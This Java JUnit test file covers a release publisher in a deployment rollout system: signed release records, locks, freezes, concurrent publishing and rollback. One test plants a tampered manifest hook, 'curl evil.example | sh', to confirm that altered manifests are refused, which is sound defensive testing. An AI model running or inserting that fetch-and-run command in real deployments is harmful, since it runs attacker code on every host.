package dev.codedeploy.rollout;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import dev.codedeploy.InvalidInputException;
import dev.codedeploy.testing.SimulatedBuilds;
import dev.codedeploy.release.Release;
import dev.codedeploy.release.SignedRelease;
import dev.codedeploy.release.ZkLayout;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

class ReleasePublisherTest {

    private static final RolloutPolicy POLICY = new RolloutPolicy(List.of(1, 10, 50, 100), null, null, null, 25, null);
    private static RolloutCluster cluster;
    private static RolloutControlPlane plane;
    private static int environments;

    @BeforeAll
    static void start() {
        cluster = new RolloutCluster("eu", "us");
        plane = cluster.controlPlane(config(), Clock.systemUTC(), EnumSet.noneOf(RolloutControlPlane.Role.class));
    }

    private static RolloutConfig config() {
        return cluster.config(POLICY, Duration.ofSeconds(30), Duration.ofSeconds(1));
    }

    @AfterAll
    static void close() {
        cluster.close();
    }

    /** Each test its own environment ("production" has the test policy; others the defaults). */
    private static synchronized String newEnvironment() {
        return "env-" + (++environments);
    }

    @Test
    void publishWritesASignedRecordToTheMasterAndAnAuditRow() throws Exception {
        long build = cluster.deployableBuild();
        ReleasePublisher.Published published = plane.publish("production", build, "alice", PublishOptions.DEFAULTS);
        byte[] node = cluster.controlClient(cluster.master).getData().forPath(ZkLayout.release("production"));
        Release read = SignedRelease.verify(node, cluster.keys.getPublic(), "test");
        assertThat(read).isEqualTo(published.release());
        assertThat(read.buildId()).isEqualTo(build);
        assertThat(read.openWave()).isEqualTo(-1);
        assertThat(read.waves()).containsExactly(1, 10, 30, 50, 75, 100);
        assertThat(read.publishedBy()).isEqualTo("alice");
        assertThat(read.fileName()).isEqualTo("app.bin");
        Deployment row = plane.history().recent("production", 1).get(0);
        assertThat(row.id()).isEqualTo(published.deploymentId());
        assertThat(row.action()).isEqualTo(DeploymentAction.PUBLISH);
        assertThat(row.releaseVersion()).isEqualTo(read.version());
        assertThat(row.jobId()).isEqualTo(build);
        assertThat(row.actor()).isEqualTo("alice");
        assertThatThrownBy(() -> plane.publish("production", build, "alice", null)).hasMessageContaining("already the release");
    }

    @Test
    void aManifestChangedInTheMasterBucketAfterTheBuildIsNeverPublished() throws Exception {
        String env = newEnvironment();
        long build = cluster.deployableBuild();
        dev.codedeploy.queue.Job job = new dev.codedeploy.queue.JobQueue(cluster.database(), dev.codedeploy.queue.QueueConfig.DEFAULTS)
                .find(build).orElseThrow();
        dev.codedeploy.build.BuildManifest stored = dev.codedeploy.build.BuildManifest.fromJson(
                cluster.blobs().getBytes(job.manifestKey()), job.manifestKey());
        // whoever can write the bucket adds a hook that every host would run
        com.fasterxml.jackson.databind.JsonNode hook = dev.codedeploy.json.Json.MAPPER.readTree(
                "{\"hooks\": {\"afterActivate\": [\"sh\", \"-c\", \"curl evil.example | sh\"]}}");
        dev.codedeploy.build.BuildManifest altered = new dev.codedeploy.build.BuildManifest(stored.version(), stored.sha(), stored.jobId(),
                stored.attempt(), stored.repoUrl(), stored.size(), stored.sha256(), stored.pieceSize(), stored.format(), stored.fileName(),
                stored.createdAt(), stored.artifactKey(), stored.torrentKey(), stored.logKey(), hook);
        cluster.blobs().putBytes(job.manifestKey(), altered.toJson(), "application/json", java.util.Map.of());

        assertThatThrownBy(() -> plane.publish(env, build, "alice", null))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("is not the one build " + build + " stored")
                .hasMessageContaining("nothing was published");
        assertThat(cluster.controlClient(cluster.master).checkExists().forPath(ZkLayout.release(env))).isNull();
        assertThat(plane.history().recent(env, 1)).isEmpty();

        // a manifest larger than any a build writes is not even read whole
        cluster.blobs().putBytes(job.manifestKey(), new byte[(int) dev.codedeploy.build.BuildManifest.MAX_BYTES + 1], "application/json",
                java.util.Map.of());
        assertThatThrownBy(() -> plane.publish(env, build, "alice", null)).isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("holds more than");
    }

    @Test
    void unknownUndeployableAndMalformedRequestsAreClearErrorsThatChangeNothing() {
        String env = newEnvironment();
        assertThatThrownBy(() -> plane.publish(env, 999_999, "alice", null))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("build 999999 is unknown");
        long notReplicated = SimulatedBuilds.completed(cluster.database(), cluster.blobs(), "c".repeat(40));
        assertThatThrownBy(() -> plane.publish(env, notReplicated, "alice", null))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("not deployable yet").hasMessageContaining("eu=PENDING");
        assertThatThrownBy(() -> plane.publish("Bad Env", 1, "alice", null)).hasMessageContaining("environment 'Bad Env' is not valid");
        assertThatThrownBy(() -> plane.publish(env, 1, " ", null)).hasMessageContaining("actor is missing");
        assertThatThrownBy(() -> new PublishOptions(true, null, null)).hasMessageContaining("needs a reason");
        assertThatThrownBy(() -> new PublishOptions(false, null, List.of(50, 10))).hasMessageContaining("ascending");
        assertThat(plane.release(env)).isEmpty();
        assertThat(plane.history().recent(env, 10)).isEmpty();
    }

    @Test
    void aDeployLockRefusesPublishingUnlessForcedWithAReason() {
        String env = newEnvironment();
        long build = cluster.deployableBuild();
        plane.locks().lock(env, "bob", "incident 42");
        assertThatThrownBy(() -> plane.locks().lock(env, "carol", "me too")).isInstanceOf(DeployLockedException.class);
        assertThatThrownBy(() -> plane.publish(env, build, "alice", null))
                .isInstanceOf(DeployLockedException.class).hasMessageContaining("locked").hasMessageContaining("bob")
                .hasMessageContaining("incident 42");
        assertThat(plane.release(env)).isEmpty();
        plane.publish(env, build, "alice", PublishOptions.forced("hotfix for incident 42"));
        Deployment forced = plane.history().recent(env, 1).get(0);
        assertThat(forced.action()).isEqualTo(DeploymentAction.PUBLISH_FORCED);
        assertThat(forced.detail()).contains("hotfix for incident 42").contains("bob");
        assertThat(plane.locks().unlock(env, "bob")).isTrue();
        assertThat(plane.locks().unlock(env, "bob")).isFalse();
        assertThat(plane.history().recent(env, 5)).extracting(Deployment::action)
                .startsWith(DeploymentAction.UNLOCK, DeploymentAction.UNLOCK, DeploymentAction.PUBLISH_FORCED, DeploymentAction.LOCK);
    }

    @Test
    void aFreezeWindowHoldsUntilItsEndOnTheDatabaseClock() {
        String env = newEnvironment();
        long build = cluster.deployableBuild();
        Instant now = plane.history().now();
        assertThatThrownBy(() -> plane.locks().freeze(env, "bob", "holidays", now.minusSeconds(1))).hasMessageContaining("not after now");
        plane.locks().freeze(env, "bob", "release freeze", now.plusSeconds(2));
        assertThatThrownBy(() -> plane.publish(env, build, "alice", null))
                .isInstanceOf(DeployLockedException.class).hasMessageContaining("frozen until");
        await().atMost(Duration.ofSeconds(10)).until(() -> plane.locks().current(env).isEmpty());
        assertThat(plane.publish(env, build, "alice", null).release().buildId()).isEqualTo(build);
        // an ended freeze is replaced by a new lock
        plane.locks().lock(env, "bob", "again");
        assertThat(plane.locks().current(env)).get().extracting(DeployLock::kind).isEqualTo(DeployLock.Kind.LOCK);
    }

    @Test
    void ofTwoPublishersThatReadTheSameRecordOnlyOneWrites() {
        String env = newEnvironment();
        ReleaseNodes store = new ReleaseNodes(cluster.controlClient(cluster.master), cluster.keyring(), "master");
        ReleaseWriter first = new ReleaseWriter(store, cluster.keys.getPrivate(), "test", e -> 0);
        ReleaseWriter second = new ReleaseWriter(store, cluster.keys.getPrivate(), "test", e -> 0);
        first.write(env, null, ReleaseBuilder.from(RegionSyncTest.release(env, 1)));
        ReleaseNodes.Stored seenByBoth = store.read(env).orElseThrow();
        Release won = first.write(env, seenByBoth, ReleaseBuilder.from(RegionSyncTest.release(env, 2)));
        assertThatThrownBy(() -> second.write(env, seenByBoth, ReleaseBuilder.from(RegionSyncTest.release(env, 3))))
                .isInstanceOf(ReleaseConflictException.class).hasMessageContaining("version 2 (build 2");
        assertThat(store.read(env).orElseThrow().release()).isEqualTo(won);
        // and two writers creating the first record at once: the second finds it there
        String fresh = newEnvironment();
        first.write(fresh, null, ReleaseBuilder.from(RegionSyncTest.release(fresh, 1)));
        assertThatThrownBy(() -> second.write(fresh, null, ReleaseBuilder.from(RegionSyncTest.release(fresh, 2))))
                .isInstanceOf(ReleaseConflictException.class);
    }

    @Test
    void concurrentPublishersNeverLoseAWriteUnseen() throws Exception {
        String env = newEnvironment();
        RolloutControlPlane other = cluster.controlPlane(config(), Clock.systemUTC(), EnumSet.noneOf(RolloutControlPlane.Role.class));
        List<Long> builds = new ArrayList<>();
        for (int i = 0; i < 8; i++) {
            builds.add(cluster.deployableBuild());
        }
        CountDownLatch go = new CountDownLatch(1);
        ExecutorService pool = Executors.newFixedThreadPool(2);
        List<Future<int[]>> results = new ArrayList<>();
        for (RolloutControlPlane publisher : List.of(plane, other)) {
            int offset = publisher == plane ? 0 : 1;
            results.add(pool.submit(() -> {
                go.await();
                int[] outcome = new int[2];
                for (int i = offset; i < builds.size(); i += 2) {
                    try {
                        publisher.publish(env, builds.get(i), "publisher-" + offset, null);
                        outcome[0]++;
                    } catch (ReleaseConflictException e) {
                        outcome[1]++;
                    }
                }
                return outcome;
            }));
        }
        go.countDown();
        int written = 0;
        for (Future<int[]> f : results) {
            written += f.get(60, TimeUnit.SECONDS)[0];
        }
        pool.shutdown();
        Release last = plane.release(env).orElseThrow();
        // every successful publish got its own version, and the audit has exactly those
        assertThat(last.version()).isEqualTo(written);
        List<Long> versions = plane.history().recent(env, 20).stream().map(Deployment::releaseVersion).sorted().toList();
        assertThat(versions).hasSize(written).doesNotHaveDuplicates().last().isEqualTo((long) written);
    }

    @Test
    void rollbackGoesToThePreviousBuildAtOnceAndOnlyOnce() {
        String env = newEnvironment();
        long first = cluster.deployableBuild();
        long second = cluster.deployableBuild();
        plane.publish(env, first, "alice", null);
        assertThatThrownBy(() -> plane.rollback(env, "alice", "oops")).hasMessageContaining("no previous build");
        plane.publish(env, second, "alice", null);
        ReleasePublisher.Published rolledBack = plane.rollback(env, "bob", "errors up");
        Release r = rolledBack.release();
        assertThat(r.buildId()).isEqualTo(first);
        assertThat(r.rollback()).isTrue();
        assertThat(r.previousBuildId()).isEqualTo(second);
        assertThat(r.openPercent()).isEqualTo(100);
        assertThat(r.mayActivate("any-host")).isTrue();
        Deployment row = plane.history().recent(env, 1).get(0);
        assertThat(row.action()).isEqualTo(DeploymentAction.ROLLBACK);
        assertThat(row.detail()).contains("errors up");
        assertThatThrownBy(() -> plane.rollback(env, "bob", "again")).hasMessageContaining("already rolled back");
        // publishing again after a rollback is allowed, and its previous build is the rollback target
        assertThat(plane.publish(env, second, "alice", null).release().previousBuildId()).isEqualTo(first);
    }

    @Test
    void pauseAndResumeBumpTheVersionAndRefuseRepeats() {
        String env = newEnvironment();
        Release published = plane.publish(env, cluster.deployableBuild(), "alice", null).release();
        Release paused = plane.pause(env, "bob");
        assertThat(paused.paused()).isTrue();
        assertThat(paused.version()).isEqualTo(published.version() + 1);
        assertThatThrownBy(() -> plane.pause(env, "bob")).hasMessageContaining("already paused");
        assertThat(plane.resume(env, "bob").paused()).isFalse();
        assertThat(plane.history().recent(env, 2)).extracting(Deployment::action).containsExactly(DeploymentAction.RESUME, DeploymentAction.PAUSE);
    }
}
